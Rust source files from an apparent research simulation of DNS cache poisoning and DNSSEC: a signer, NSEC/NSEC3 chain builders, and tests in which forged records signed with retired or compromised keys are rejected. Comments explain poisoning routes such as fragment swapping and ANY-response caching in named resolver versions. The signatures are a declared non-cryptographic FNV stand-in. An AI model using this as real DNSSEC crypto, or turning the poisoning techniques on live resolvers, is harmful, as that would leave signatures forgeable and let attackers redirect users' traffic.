        let strict_params = Nsec3Params::standard(false);
        let strict_chain = nsec3_chain(
            &[(n("vict.im"), vec![RecordType::SOA]), (n("www.vict.im"), vec![RecordType::A])],
            &strict_params,
            &n("vict.im"),
            300,
        );
        let strict_covering = strict_chain
            .iter()
            .find(|rr| match &rr.rdata {
                RData::Nsec3 { next_hashed, .. } => {
                    let own = owner_hash_of(rr).expect("base32hex owner");
                    nsec3_covers(&own, next_hashed, &nsec3_hash(&rogue, &strict_params))
                }
                _ => false,
            })
            .expect("one span covers the rogue name")
            .clone();
        let mut strict_response = signed_response(&keys, &[]);
        strict_response.push(signer.sign_rrset(std::slice::from_ref(&strict_covering), SimTime::ZERO));
        strict_response.push(strict_covering);
        strict_response.push(ResourceRecord::new(rogue.clone(), 300, a("6.6.6.6")));
        assert!(matches!(v.validate(&strict_response, &rogue, RecordType::A), Validation::Bogus(_)));
    }

    #[test]
    fn retired_key_signature_fails_after_drop() {
        let mut keys = KeyManager::new(7);
        let old_zsk = keys.active_zsk().clone();
        keys.start_rollover();
        keys.promote_rollover();
        // Retired but still published: a signature by the old key verifies.
        let anchor = keys.anchor(&n("vict.im"));
        let policy = SigningPolicy::default();
        let rrset = vec![ResourceRecord::new(n("www.vict.im"), 300, a("6.6.6.6"))];
        let signer = Signer::new(&keys, &policy, n("vict.im"));
        let forged_sig = signer.sign_rrset_with(&old_zsk, &rrset, SimTime::ZERO);
        let mut response = signed_response(&keys, &[]);
        response.push(forged_sig.clone());
        response.extend(rrset.iter().cloned());
        let v = Validator::new(n("vict.im"), Some(anchor.clone()), 0);
        assert_eq!(v.validate(&response, &n("www.vict.im"), RecordType::A), Validation::Secure);

        // Once the zone drops the retired key, the same response is bogus.
        keys.drop_retired();
        let mut post = signed_response(&keys, &[]);
        post.push(forged_sig);
        post.extend(rrset.iter().cloned());
        assert!(matches!(v.validate(&post, &n("www.vict.im"), RecordType::A), Validation::Bogus(_)));
    }
}
