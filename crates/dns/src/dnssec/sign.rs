//! The signer: RFC 4034 §6 canonical form and real RRSIG production.
//!
//! A [`Signer`] is a [`KeyManager`] plus a [`SigningPolicy`]; its
//! [`Signer::sign_rrset`] produces an `RRSIG` whose signature is the keyed
//! hash of the canonical RRset, bound to an inception/expiration window on
//! simulated time. The same canonical bytes are recomputed by
//! [`crate::dnssec::verify`], so any bit flipped in signed rdata breaks the
//! signature.
//!
//! ```
//! use dns::dnssec::{KeyManager, Signer, SigningPolicy};
//! use dns::dnssec::verify::rrsig_verifies;
//! use dns::prelude::*;
//! use netsim::prelude::SimTime;
//!
//! let keys = KeyManager::new(7);
//! let policy = SigningPolicy::default();
//! let signer = Signer::new(&keys, &policy, "vict.im".parse().unwrap());
//!
//! let owner: DomainName = "www.vict.im".parse().unwrap();
//! let rrset = vec![ResourceRecord::new(owner.clone(), 300, RData::A("30.0.0.80".parse().unwrap()))];
//! let rrsig = signer.sign_rrset(&rrset, SimTime::ZERO);
//!
//! // The genuine RRset verifies against the published DNSKEY…
//! assert!(rrsig_verifies(&rrsig, &rrset, &keys.active_zsk().dnskey(), 0));
//!
//! // …but flipping a single rdata bit (a fragment-swapped tail, say)
//! // breaks the signature.
//! let forged = vec![ResourceRecord::new(owner, 300, RData::A("6.6.6.6".parse().unwrap()))];
//! assert!(!rrsig_verifies(&rrsig, &forged, &keys.active_zsk().dnskey(), 0));
//! ```

use super::denial::Nsec3Params;
use super::keys::{KeyManager, KeyPair};
use super::{keyed_hash, sim_secs};
use crate::name::DomainName;
use crate::rdata::{RData, RecordType, ResourceRecord};
use netsim::prelude::{Duration, SimTime};
use serde::{Deserialize, Serialize};
use std::cmp::Ordering;

/// How the zone proves nonexistence.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub enum DenialConfig {
    /// Plain NSEC: a chain over the real owner names in canonical order.
    /// Walkable — the chain enumerates the zone.
    Nsec,
    /// NSEC3: a chain over hashed owner names (RFC 5155), optionally with
    /// opt-out spans.
    Nsec3(Nsec3Params),
}

/// Operational signing parameters, the policy half of the pipeline.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct SigningPolicy {
    /// How long signatures stay valid after inception.
    pub validity: Duration,
    /// How far signatures are backdated, absorbing clock skew.
    pub inception_backdate: Duration,
    /// Denial-of-existence flavour.
    pub denial: DenialConfig,
    /// RFC 6781 rollover strictness: when true, a promoted-out ZSK leaves
    /// the DNSKEY RRset immediately instead of lingering through a
    /// retirement window — closing the replay window attackers use.
    pub retire_immediately: bool,
}

impl Default for SigningPolicy {
    fn default() -> Self {
        SigningPolicy {
            validity: Duration::from_secs(30 * 86_400),
            inception_backdate: Duration::from_secs(3_600),
            denial: DenialConfig::Nsec,
            retire_immediately: false,
        }
    }
}

impl SigningPolicy {
    /// A policy proving denial with NSEC3.
    pub fn nsec3(opt_out: bool) -> Self {
        SigningPolicy { denial: DenialConfig::Nsec3(Nsec3Params::standard(opt_out)), ..Default::default() }
    }

    /// The signature window `[inception, expiration]` for a signature made
    /// at `now`, in whole simulated seconds.
    pub fn window(&self, now: SimTime) -> (u32, u32) {
        let now_secs = sim_secs(now);
        let backdate = (self.inception_backdate.as_nanos() / 1_000_000_000) as u32;
        let validity = (self.validity.as_nanos() / 1_000_000_000) as u32;
        (now_secs.saturating_sub(backdate), now_secs.saturating_add(validity))
    }
}

/// RFC 4034 §6.1 canonical name order: compare label sequences from the
/// root down, case-insensitively, byte-wise; a missing label sorts first.
/// This is *not* the `Ord` on [`DomainName`] (which compares most-specific
/// label first); NSEC chains and canonical RRset bytes must use this one.
pub fn canonical_cmp(a: &DomainName, b: &DomainName) -> Ordering {
    let a_labels = a.labels();
    let b_labels = b.labels();
    for (la, lb) in a_labels.iter().rev().zip(b_labels.iter().rev()) {
        match la.to_ascii_lowercase().as_bytes().cmp(lb.to_ascii_lowercase().as_bytes()) {
            Ordering::Equal => continue,
            other => return other,
        }
    }
    a_labels.len().cmp(&b_labels.len())
}

/// Lowercases every domain name embedded in rdata, per the canonical form
/// rules of RFC 4034 §6.2.
fn canonical_rdata(rdata: &RData) -> RData {
    match rdata {
        RData::Ns(n) => RData::Ns(n.to_lowercase()),
        RData::Cname(n) => RData::Cname(n.to_lowercase()),
        RData::Soa { mname, rname, serial, refresh, retry, expire, minimum } => RData::Soa {
            mname: mname.to_lowercase(),
            rname: rname.to_lowercase(),
            serial: *serial,
            refresh: *refresh,
            retry: *retry,
            expire: *expire,
            minimum: *minimum,
        },
        RData::Mx { preference, exchange } => RData::Mx { preference: *preference, exchange: exchange.to_lowercase() },
        RData::Srv { priority, weight, port, target } => {
            RData::Srv { priority: *priority, weight: *weight, port: *port, target: target.to_lowercase() }
        }
        RData::Naptr { order, preference, flags, service, regexp, replacement } => RData::Naptr {
            order: *order,
            preference: *preference,
            flags: flags.clone(),
            service: service.clone(),
            regexp: regexp.clone(),
            replacement: replacement.to_lowercase(),
        },
        RData::Nsec { next, types } => RData::Nsec { next: next.to_lowercase(), types: types.clone() },
        other => other.clone(),
    }
}

/// The canonical bytes of one RRset (RFC 4035 §5.3.2): every record as
/// `owner | type | class | original_ttl | rdlen | canonical rdata`, with
/// records sorted by their canonical rdata bytes. Both signing and
/// verification hash exactly these bytes.
pub fn canonical_rrset_bytes(rrset: &[ResourceRecord], original_ttl: u32) -> Vec<u8> {
    let Some(first) = rrset.first() else { return Vec::new() };
    let mut owner_wire = Vec::new();
    first.name.to_lowercase().encode(&mut owner_wire, None);
    let rtype = first.rtype().number();

    let mut rdatas: Vec<Vec<u8>> = rrset
        .iter()
        .map(|rr| {
            let mut b = Vec::new();
            canonical_rdata(&rr.rdata).encode(&mut b);
            b
        })
        .collect();
    rdatas.sort();

    let mut out = Vec::new();
    for rdata in rdatas {
        out.extend_from_slice(&owner_wire);
        out.extend_from_slice(&rtype.to_be_bytes());
        out.extend_from_slice(&1u16.to_be_bytes()); // class IN
        out.extend_from_slice(&original_ttl.to_be_bytes());
        out.extend_from_slice(&(rdata.len() as u16).to_be_bytes());
        out.extend_from_slice(&rdata);
    }
    out
}

/// The RRSIG rdata fields that are themselves part of the signed data
/// (everything up to and excluding the signature).
#[allow(clippy::too_many_arguments)]
fn rrsig_prefix_bytes(
    type_covered: RecordType,
    algorithm: u8,
    labels: u8,
    original_ttl: u32,
    expiration: u32,
    inception: u32,
    key_tag: u16,
    signer: &DomainName,
) -> Vec<u8> {
    let mut out = Vec::new();
    out.extend_from_slice(&type_covered.number().to_be_bytes());
    out.push(algorithm);
    out.push(labels);
    out.extend_from_slice(&original_ttl.to_be_bytes());
    out.extend_from_slice(&expiration.to_be_bytes());
    out.extend_from_slice(&inception.to_be_bytes());
    out.extend_from_slice(&key_tag.to_be_bytes());
    signer.to_lowercase().encode(&mut out, None);
    out
}

/// Computes the stand-in signature: the keyed hash of the verification key,
/// the RRSIG prefix fields and the canonical RRset bytes.
#[allow(clippy::too_many_arguments)]
pub(crate) fn compute_signature(
    verification_key: &[u8],
    type_covered: RecordType,
    algorithm: u8,
    labels: u8,
    original_ttl: u32,
    expiration: u32,
    inception: u32,
    key_tag: u16,
    signer: &DomainName,
    rrset: &[ResourceRecord],
) -> Vec<u8> {
    let prefix =
        rrsig_prefix_bytes(type_covered, algorithm, labels, original_ttl, expiration, inception, key_tag, signer);
    let canonical = canonical_rrset_bytes(rrset, original_ttl);
    keyed_hash(&[verification_key, &prefix, &canonical]).to_vec()
}

/// The signing half of the pipeline: keys plus policy plus the zone apex
/// the RRSIG `signer` field names.
pub struct Signer<'a> {
    keys: &'a KeyManager,
    policy: &'a SigningPolicy,
    origin: DomainName,
}

impl<'a> Signer<'a> {
    /// Creates a signer over a key inventory and a policy, signing on
    /// behalf of the zone rooted at `origin`.
    pub fn new(keys: &'a KeyManager, policy: &'a SigningPolicy, origin: DomainName) -> Self {
        Signer { keys, policy, origin }
    }

    /// Signs one RRset with the active ZSK (or, for the DNSKEY RRset
    /// itself, the KSK — RFC 4035 §2.2) at simulated time `now`.
    ///
    /// # Panics
    /// Panics on an empty RRset: there is nothing to bind the owner to.
    pub fn sign_rrset(&self, rrset: &[ResourceRecord], now: SimTime) -> ResourceRecord {
        let rtype = rrset.first().expect("cannot sign an empty RRset").rtype();
        let key = if rtype == RecordType::DNSKEY { self.keys.ksk() } else { self.keys.active_zsk() };
        self.sign_rrset_with(key, rrset, now)
    }

    /// Signs one RRset with an explicit key. Attack drivers use this to
    /// model a compromised ZSK forging data inside a rollover window.
    pub fn sign_rrset_with(&self, key: &KeyPair, rrset: &[ResourceRecord], now: SimTime) -> ResourceRecord {
        let (inception, expiration) = self.policy.window(now);
        sign_rrset_with_window(key, rrset, &self.origin, inception, expiration)
    }
}

/// Signs an RRset with an explicit key and window; the building block both
/// the policy-driven [`Signer`] and replay-style attack drivers share.
pub fn sign_rrset_with_window(
    key: &KeyPair,
    rrset: &[ResourceRecord],
    signer: &DomainName,
    inception: u32,
    expiration: u32,
) -> ResourceRecord {
    let first = rrset.first().expect("cannot sign an empty RRset");
    let type_covered = first.rtype();
    let labels = first.name.label_count() as u8;
    let original_ttl = first.ttl;
    let key_tag = key.key_tag();
    let signature = compute_signature(
        key.public_key(),
        type_covered,
        key.algorithm,
        labels,
        original_ttl,
        expiration,
        inception,
        key_tag,
        signer,
        rrset,
    );
    ResourceRecord::new(
        first.name.clone(),
        original_ttl,
        RData::Rrsig {
            type_covered,
            algorithm: key.algorithm,
            labels,
            original_ttl,
            expiration,
            inception,
            key_tag,
            signer: signer.clone(),
            signature,
        },
    )
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::dnssec::verify::rrsig_verifies;

    fn n(s: &str) -> DomainName {
        s.parse().unwrap()
    }

    #[test]
    fn canonical_order_compares_from_the_root_down() {
        // RFC 4034 §6.1's worked example ordering: sort on the least
        // significant (rightmost) label first, so `x.w.example` (second
        // label `w`) precedes `z.example` (second label `z`).
        let mut names = [n("x.w.example"), n("example"), n("z.example"), n("a.example"), n("yljkjljk.a.example")];
        names.sort_by(canonical_cmp);
        let rendered: Vec<String> = names.iter().map(|d| d.to_string()).collect();
        assert_eq!(rendered, vec!["example", "a.example", "yljkjljk.a.example", "x.w.example", "z.example"]);
    }

    #[test]
    fn canonical_order_is_case_insensitive() {
        assert_eq!(canonical_cmp(&n("WWW.Vict.IM"), &n("www.vict.im")), Ordering::Equal);
    }

    #[test]
    fn signature_covers_every_rdata_bit() {
        let keys = KeyManager::new(7);
        let policy = SigningPolicy::default();
        let signer = Signer::new(&keys, &policy, n("vict.im"));
        let rrset = vec![
            ResourceRecord::new(n("www.vict.im"), 300, RData::A("30.0.0.80".parse().unwrap())),
            ResourceRecord::new(n("www.vict.im"), 300, RData::A("30.0.0.81".parse().unwrap())),
        ];
        let rrsig = signer.sign_rrset(&rrset, SimTime::ZERO);
        let zsk = keys.active_zsk().dnskey();
        assert!(rrsig_verifies(&rrsig, &rrset, &zsk, 0));

        // Record order inside the set does not matter (canonical sort)…
        let reordered = vec![rrset[1].clone(), rrset[0].clone()];
        assert!(rrsig_verifies(&rrsig, &reordered, &zsk, 0));

        // …but changing one address does.
        let mut swapped = rrset.clone();
        swapped[1].rdata = RData::A("6.6.6.6".parse().unwrap());
        assert!(!rrsig_verifies(&rrsig, &swapped, &zsk, 0));
    }

    #[test]
    fn signature_window_tracks_sim_time() {
        let keys = KeyManager::new(7);
        let policy = SigningPolicy { validity: Duration::from_secs(600), ..Default::default() };
        let signer = Signer::new(&keys, &policy, n("vict.im"));
        let rrset = vec![ResourceRecord::new(n("www.vict.im"), 300, RData::A("30.0.0.80".parse().unwrap()))];
        let rrsig = signer.sign_rrset(&rrset, SimTime::from_secs(5_000));
        let zsk = keys.active_zsk().dnskey();
        assert!(rrsig_verifies(&rrsig, &rrset, &zsk, 5_000));
        assert!(rrsig_verifies(&rrsig, &rrset, &zsk, 5_600));
        assert!(!rrsig_verifies(&rrsig, &rrset, &zsk, 5_601), "expired signatures must fail");
        assert!(!rrsig_verifies(&rrsig, &rrset, &zsk, 1_000), "not yet valid signatures must fail");
    }

    #[test]
    fn dnskey_rrsets_are_signed_by_the_ksk() {
        let keys = KeyManager::new(7);
        let policy = SigningPolicy::default();
        let signer = Signer::new(&keys, &policy, n("vict.im"));
        let rrset: Vec<ResourceRecord> =
            keys.published_dnskeys().into_iter().map(|rdata| ResourceRecord::new(n("vict.im"), 300, rdata)).collect();
        let rrsig = signer.sign_rrset(&rrset, SimTime::ZERO);
        assert!(rrsig_verifies(&rrsig, &rrset, &keys.ksk().dnskey(), 0));
        assert!(!rrsig_verifies(&rrsig, &rrset, &keys.active_zsk().dnskey(), 0));
    }
}
