//! Authenticated denial of existence: NSEC chains in canonical order and
//! NSEC3 chains in hashed order (RFC 5155), with opt-out.
//!
//! The chain builders produce the denial records a zone signer inserts; the
//! coverage predicates ([`nsec_covers`], [`nsec3_covers`]) are shared with
//! the validator, which uses them to check that a negative answer really
//! proves the queried name does not exist.

use super::keyed_hash;
use super::sign::canonical_cmp;
use crate::name::DomainName;
use crate::rdata::{RData, RecordType, ResourceRecord};
use serde::{Deserialize, Serialize};
use std::cmp::Ordering;

/// NSEC3 hashing parameters (RFC 5155 §5), shared by the NSEC3PARAM-style
/// zone configuration and every NSEC3 record the zone emits.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Nsec3Params {
    /// Salt mixed into each hash iteration.
    pub salt: Vec<u8>,
    /// Extra hash iterations beyond the first.
    pub iterations: u16,
    /// Whether NSEC3 records assert the opt-out flag: spans may skip
    /// insecure delegations, which is exactly the gap opt-out abuse forges
    /// into.
    pub opt_out: bool,
}

impl Nsec3Params {
    /// The parameters the simulation's signed zones use by default.
    pub fn standard(opt_out: bool) -> Self {
        Nsec3Params { salt: vec![0xda, 0x15], iterations: 2, opt_out }
    }

    /// The RFC 5155 flags byte: bit 0 is opt-out.
    pub fn flags(&self) -> u8 {
        if self.opt_out {
            1
        } else {
            0
        }
    }
}

/// The NSEC3 hash of a name: iterated keyed hash over the lowercased wire
/// form plus salt (the simulation's stand-in for iterated SHA-1).
pub fn nsec3_hash(name: &DomainName, params: &Nsec3Params) -> Vec<u8> {
    let mut wire = Vec::new();
    name.to_lowercase().encode(&mut wire, None);
    let mut digest = keyed_hash(&[&wire, &params.salt]).to_vec();
    for _ in 0..params.iterations {
        digest = keyed_hash(&[&digest, &params.salt]).to_vec();
    }
    digest
}

const BASE32HEX: &[u8; 32] = b"0123456789abcdefghijklmnopqrstuv";

/// Encodes bytes in base32hex without padding (RFC 4648 §7), lowercased as
/// NSEC3 owner labels conventionally are.
pub fn base32hex_encode(bytes: &[u8]) -> String {
    let mut out = String::new();
    let mut acc: u32 = 0;
    let mut bits = 0u32;
    for &b in bytes {
        acc = (acc << 8) | u32::from(b);
        bits += 8;
        while bits >= 5 {
            bits -= 5;
            out.push(BASE32HEX[((acc >> bits) & 0x1f) as usize] as char);
        }
    }
    if bits > 0 {
        out.push(BASE32HEX[((acc << (5 - bits)) & 0x1f) as usize] as char);
    }
    out
}

/// Decodes a base32hex string (case-insensitive, no padding); `None` on any
/// character outside the alphabet.
pub fn base32hex_decode(s: &str) -> Option<Vec<u8>> {
    let mut out = Vec::new();
    let mut acc: u32 = 0;
    let mut bits = 0u32;
    for c in s.bytes() {
        let v = BASE32HEX.iter().position(|&a| a == c.to_ascii_lowercase())? as u32;
        acc = (acc << 5) | v;
        bits += 5;
        if bits >= 8 {
            bits -= 8;
            out.push(((acc >> bits) & 0xff) as u8);
        }
    }
    Some(out)
}

/// The owner name of the NSEC3 record for `name`: the base32hex hash as a
/// single label under the zone apex.
pub fn nsec3_owner(name: &DomainName, params: &Nsec3Params, origin: &DomainName) -> DomainName {
    origin.prepend(&base32hex_encode(&nsec3_hash(name, params))).expect("base32hex NSEC3 labels fit label limits")
}

/// Whether the NSEC span `(owner, next)` covers `name` (strictly between
/// the two in canonical order, with wraparound on the last span).
pub fn nsec_covers(owner: &DomainName, next: &DomainName, name: &DomainName) -> bool {
    match canonical_cmp(owner, next) {
        Ordering::Less => canonical_cmp(owner, name) == Ordering::Less && canonical_cmp(name, next) == Ordering::Less,
        // Wraparound span (last NSEC points back at the apex): covers
        // everything after the owner or before the apex.
        _ => canonical_cmp(owner, name) == Ordering::Less || canonical_cmp(name, next) == Ordering::Less,
    }
}

/// Whether the NSEC3 span `(owner_hash, next_hash)` covers `target` in
/// hashed order, with wraparound on the last span.
pub fn nsec3_covers(owner_hash: &[u8], next_hash: &[u8], target: &[u8]) -> bool {
    if owner_hash < next_hash {
        owner_hash < target && target < next_hash
    } else {
        owner_hash < target || target < next_hash
    }
}

/// Builds the NSEC chain for a zone: one record per owner name, linked in
/// RFC 4034 §6.1 canonical order, the last wrapping back to the first.
/// `names` carries each owner with the record types present at it (the
/// builder adds NSEC and RRSIG to every type bitmap, since signing inserts
/// both).
pub fn nsec_chain(names: &[(DomainName, Vec<RecordType>)], ttl: u32) -> Vec<ResourceRecord> {
    let mut sorted: Vec<&(DomainName, Vec<RecordType>)> = names.iter().collect();
    sorted.sort_by(|a, b| canonical_cmp(&a.0, &b.0));
    let count = sorted.len();
    (0..count)
        .map(|i| {
            let (owner, types) = sorted[i];
            let (next, _) = sorted[(i + 1) % count];
            let mut types = types.clone();
            types.push(RecordType::NSEC);
            types.push(RecordType::RRSIG);
            ResourceRecord::new(owner.clone(), ttl, RData::Nsec { next: next.clone(), types })
        })
        .collect()
}

/// Builds the NSEC3 chain: owners hashed, sorted by hash, linked with
/// wraparound. With opt-out, callers simply leave unsigned delegations out
/// of `names`; the resulting spans then cover (and thereby permit) them.
pub fn nsec3_chain(
    names: &[(DomainName, Vec<RecordType>)],
    params: &Nsec3Params,
    origin: &DomainName,
    ttl: u32,
) -> Vec<ResourceRecord> {
    let mut hashed: Vec<(Vec<u8>, &DomainName, &Vec<RecordType>)> =
        names.iter().map(|(name, types)| (nsec3_hash(name, params), name, types)).collect();
    hashed.sort_by(|a, b| a.0.cmp(&b.0));
    let count = hashed.len();
    (0..count)
        .map(|i| {
            let (hash, _, types) = &hashed[i];
            let (next_hash, _, _) = &hashed[(i + 1) % count];
            let mut types = (*types).clone();
            types.push(RecordType::RRSIG);
            let owner = origin.prepend(&base32hex_encode(hash)).expect("base32hex NSEC3 labels fit label limits");
            ResourceRecord::new(
                owner,
                ttl,
                RData::Nsec3 {
                    hash_algorithm: 1,
                    flags: params.flags(),
                    iterations: params.iterations,
                    salt: params.salt.clone(),
                    next_hashed: next_hash.clone(),
                    types,
                },
            )
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn n(s: &str) -> DomainName {
        s.parse().unwrap()
    }

    #[test]
    fn base32hex_roundtrip() {
        for bytes in [&b""[..], &b"f"[..], &b"fo"[..], &b"foobar"[..], &[0u8, 0xff, 0x10][..]] {
            let enc = base32hex_encode(bytes);
            assert_eq!(base32hex_decode(&enc).as_deref(), Some(bytes), "roundtrip of {bytes:?} via {enc}");
        }
        assert_eq!(base32hex_encode(b"foobar"), "cpnmuoj1e8");
        assert_eq!(base32hex_decode("not base32!"), None);
    }

    #[test]
    fn nsec3_hash_depends_on_salt_and_iterations() {
        let base = Nsec3Params::standard(false);
        let salted = Nsec3Params { salt: vec![1, 2, 3], ..base.clone() };
        let iterated = Nsec3Params { iterations: 5, ..base.clone() };
        let name = n("www.vict.im");
        assert_ne!(nsec3_hash(&name, &base), nsec3_hash(&name, &salted));
        assert_ne!(nsec3_hash(&name, &base), nsec3_hash(&name, &iterated));
        // Hashing is case-insensitive over the owner name.
        assert_eq!(nsec3_hash(&n("WWW.Vict.IM"), &base), nsec3_hash(&name, &base));
    }

    #[test]
    fn nsec_chain_links_in_canonical_order_and_wraps() {
        let names = vec![
            (n("vict.im"), vec![RecordType::SOA, RecordType::NS]),
            (n("www.vict.im"), vec![RecordType::A]),
            (n("mail.vict.im"), vec![RecordType::A]),
        ];
        let chain = nsec_chain(&names, 300);
        assert_eq!(chain.len(), 3);
        // Canonical order: vict.im < mail.vict.im < www.vict.im.
        let links: Vec<(String, String)> = chain
            .iter()
            .map(|rr| match &rr.rdata {
                RData::Nsec { next, .. } => (rr.name.to_string(), next.to_string()),
                other => panic!("unexpected rdata {other:?}"),
            })
            .collect();
        assert_eq!(
            links,
            vec![
                ("vict.im".to_string(), "mail.vict.im".to_string()),
                ("mail.vict.im".to_string(), "www.vict.im".to_string()),
                ("www.vict.im".to_string(), "vict.im".to_string()),
            ]
        );
        // The middle span covers nothing that exists; the wrap span covers
        // names past the last owner.
        assert!(nsec_covers(&n("mail.vict.im"), &n("www.vict.im"), &n("nope.vict.im")));
        assert!(!nsec_covers(&n("mail.vict.im"), &n("www.vict.im"), &n("www.vict.im")));
        assert!(nsec_covers(&n("www.vict.im"), &n("vict.im"), &n("zzz.vict.im")));
    }

    #[test]
    fn nsec3_chain_links_in_hashed_order() {
        let params = Nsec3Params::standard(false);
        let origin = n("vict.im");
        let names = vec![
            (n("vict.im"), vec![RecordType::SOA]),
            (n("www.vict.im"), vec![RecordType::A]),
            (n("mail.vict.im"), vec![RecordType::A]),
        ];
        let chain = nsec3_chain(&names, &params, &origin, 300);
        assert_eq!(chain.len(), 3);
        // Every span covers the hash of a nonexistent name exactly once.
        let absent = nsec3_hash(&n("nope.vict.im"), &params);
        let covering = chain
            .iter()
            .filter(|rr| match &rr.rdata {
                RData::Nsec3 { next_hashed, .. } => {
                    let own = base32hex_decode(&rr.name.labels()[0]).expect("owner label is base32hex");
                    nsec3_covers(&own, next_hashed, &absent)
                }
                other => panic!("unexpected rdata {other:?}"),
            })
            .count();
        assert_eq!(covering, 1, "exactly one NSEC3 span covers an absent name");
        // And no span covers a name that exists in the chain.
        let present = nsec3_hash(&n("www.vict.im"), &params);
        assert!(chain.iter().all(|rr| match &rr.rdata {
            RData::Nsec3 { next_hashed, .. } => {
                let own = base32hex_decode(&rr.name.labels()[0]).expect("owner label is base32hex");
                !nsec3_covers(&own, next_hashed, &present)
            }
            _ => unreachable!(),
        }));
    }

    #[test]
    fn opt_out_spans_cover_omitted_delegations() {
        let params = Nsec3Params::standard(true);
        let origin = n("vict.im");
        // The insecure delegation "legacy.vict.im" is left out of the chain.
        let names = vec![(n("vict.im"), vec![RecordType::SOA]), (n("www.vict.im"), vec![RecordType::A])];
        let chain = nsec3_chain(&names, &params, &origin, 300);
        let omitted = nsec3_hash(&n("legacy.vict.im"), &params);
        let covered = chain.iter().any(|rr| match &rr.rdata {
            RData::Nsec3 { flags, next_hashed, .. } => {
                assert_eq!(*flags, 1, "opt-out flag set");
                let own = base32hex_decode(&rr.name.labels()[0]).expect("owner label is base32hex");
                nsec3_covers(&own, next_hashed, &omitted)
            }
            _ => unreachable!(),
        });
        assert!(covered, "an opt-out span covers the omitted delegation");
    }
}
