//! # dnssec — the deterministic zone-signing pipeline
//!
//! This module converts DNSSEC from the old boolean `Zone::signed` bit into
//! a real subsystem, modelled on the zone-signer / key-manager /
//! signing-policy split of production signers:
//!
//! * [`keys`] — KSK/ZSK keypairs derived from the simulation's ChaCha20
//!   stream, RFC 4034 key tags, DS digests, and the RFC 6781 rollover
//!   timeline (pre-publish → active → retired);
//! * [`sign`] — RFC 4034 §6 canonical ordering and canonical RRset bytes,
//!   and the [`sign::Signer`] that produces real `RRSIG` records whose
//!   inception/expiration windows run on simulated time;
//! * [`denial`] — NSEC chains in canonical order and NSEC3 chains in hashed
//!   order (with opt-out), plus the coverage predicates validators use;
//! * [`verify`] — the validating side: DS-anchored DNSKEY verification,
//!   per-RRset signature checks, and authenticated denial of existence.
//!
//! ## The crypto stand-in
//!
//! Signatures are a keyed hash over the canonical RRset: the DNSKEY's
//! `public_key` bytes double as the MAC key, so *verification is real* —
//! any bit flipped in signed rdata (say, by a spoofed second fragment)
//! breaks the signature, and a cache entry can be re-verified against its
//! RRSIG long after it was inserted. *Unforgeability* is a modelling
//! convention: attack drivers only ever sign with keys their scenario
//! explicitly grants them (e.g. a compromised ZSK inside a rollover
//! window), never with keys they merely observed on the wire.

pub mod denial;
pub mod keys;
pub mod sign;
pub mod verify;

pub use denial::{nsec3_hash, nsec3_owner, Nsec3Params};
pub use keys::{DsAnchor, KeyManager, KeyPair, RolloverState, SIM_ALGORITHM, SIM_DIGEST};
pub use sign::{canonical_cmp, canonical_rrset_bytes, DenialConfig, Signer, SigningPolicy};
pub use verify::{Validation, Validator};

use netsim::prelude::SimTime;

/// Keyed hash standing in for signature crypto: two independent FNV-1a
/// lanes over length-prefixed parts, folded into 16 bytes. Deterministic,
/// dependency-free, and sensitive to every input bit — which is all the
/// simulation needs from it.
pub fn keyed_hash(parts: &[&[u8]]) -> [u8; 16] {
    fn mix(h: u64, b: u8) -> u64 {
        (h ^ u64::from(b)).wrapping_mul(0x0000_0100_0000_01b3)
    }
    let mut h1: u64 = 0xcbf2_9ce4_8422_2325;
    let mut h2: u64 = 0x6c62_272e_07bb_0142;
    for part in parts {
        for &b in &(part.len() as u32).to_be_bytes() {
            h1 = mix(h1, b);
            h2 = mix(h2, b ^ 0x5c);
        }
        for &b in *part {
            h1 = mix(h1, b);
            h2 = mix(h2, b ^ 0x36);
        }
    }
    // Final avalanche so trailing-byte changes reach every output bit.
    h1 ^= h1 >> 33;
    h1 = h1.wrapping_mul(0xff51_afd7_ed55_8ccd);
    h2 ^= h2 >> 29;
    h2 = h2.wrapping_mul(0xc4ce_b9fe_1a85_ec53);
    let mut out = [0u8; 16];
    out[..8].copy_from_slice(&(h1 ^ h2.rotate_left(32)).to_be_bytes());
    out[8..].copy_from_slice(&(h2 ^ h1.rotate_left(17)).to_be_bytes());
    out
}

/// Simulated time expressed as the whole seconds RRSIG validity windows are
/// compared in.
pub fn sim_secs(t: SimTime) -> u32 {
    (t.as_nanos() / 1_000_000_000) as u32
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn keyed_hash_is_deterministic_and_part_sensitive() {
        let a = keyed_hash(&[b"key", b"data"]);
        assert_eq!(a, keyed_hash(&[b"key", b"data"]));
        // Different part boundaries must hash differently.
        assert_ne!(a, keyed_hash(&[b"keyd", b"ata"]));
        assert_ne!(a, keyed_hash(&[b"key", b"datb"]));
        assert_ne!(a, keyed_hash(&[b"key", b"dat"]));
    }

    #[test]
    fn sim_secs_truncates_to_whole_seconds() {
        assert_eq!(sim_secs(SimTime::ZERO), 0);
        assert_eq!(sim_secs(SimTime::from_nanos(1_999_999_999)), 1);
        assert_eq!(sim_secs(SimTime::from_secs(86_400)), 86_400);
    }
}
