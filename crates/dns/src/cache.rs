//! The resolver cache — the asset every attack in the paper targets.
//!
//! A single poisoned entry here redirects *all* applications sharing the
//! resolver (Section 4.3.2, "cross-application DNS caches"), which is why the
//! cache exposes inspection helpers used throughout the workspace to decide
//! whether an attack succeeded and which applications are affected.
//!
//! The `ANY`-caching policy knob reproduces Table 5: three of the five
//! popular resolver implementations answer later `A` queries straight from a
//! cached `ANY` response, which lets an attacker poison with an inflated
//! (fragmentable) `ANY` response and still hit ordinary `A` lookups.

use crate::name::DomainName;
use crate::rdata::{RData, RecordType, ResourceRecord};
use netsim::time::{Duration, SimTime};
use serde::{Deserialize, Serialize};
use std::collections::HashMap;
use std::net::Ipv4Addr;

/// How a resolver caches and reuses the contents of `ANY` responses
/// (Table 5 of the paper).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum AnyCachingPolicy {
    /// The records from an `ANY` response are cached and used to answer
    /// subsequent specific queries without re-querying (BIND 9.14,
    /// PowerDNS Recursor 4.3, systemd-resolved 245 — *vulnerable*).
    CacheAndUse,
    /// `ANY` responses are forwarded to the client but their contents are not
    /// used for subsequent specific queries (dnsmasq 2.79).
    NotCached,
